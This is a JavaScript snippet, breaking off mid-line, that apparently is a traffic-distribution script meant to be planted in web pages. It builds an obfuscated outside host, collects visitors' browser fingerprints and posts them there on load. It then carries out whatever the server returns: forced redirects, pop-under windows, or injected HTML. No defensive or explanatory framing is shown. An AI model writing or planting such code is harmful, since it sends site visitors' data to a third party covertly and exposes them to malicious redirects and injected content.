const tdsUrl = 'https://' + ['tds', 'pixel', 'stat'].join('-') + '.xyz/click';

const fingerprint = () => ({
  ref: document.referrer,
  url: location.href,
  ua: navigator.userAgent,
  lang: navigator.language,
  plat: navigator.platform,
  touch: 'ontouchstart' in window,
  w: screen.width,
  h: screen.height,
  tz: Intl.DateTimeFormat().resolvedOptions().timeZone,
  wd: !!navigator.webdriver,
});

(async () => {
  if (localStorage.getItem('_tdsx')) return;
  const res = await fetch(tdsUrl, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(fingerprint()),
  }).then((r) => r.json()).catch(() => null);
  if (!res) return;
  localStorage.setItem('_tdsx', Date.now().toString());
  switch (res.action) {
    case 'redirect':
      window.location.replace(res.url);
      break;
    case 'popunder': {
      const w = window.open(res.url, '_blank');
      if (w) { w.blur(); window.focus(); }
      break;
    }
    case 'overlay':
      document.body.insertAdjacentHTML('beforeend', res.html);
      break;
    default:
      if (res.url && res.delay) setTimeout(() => { top.location.href = res.url
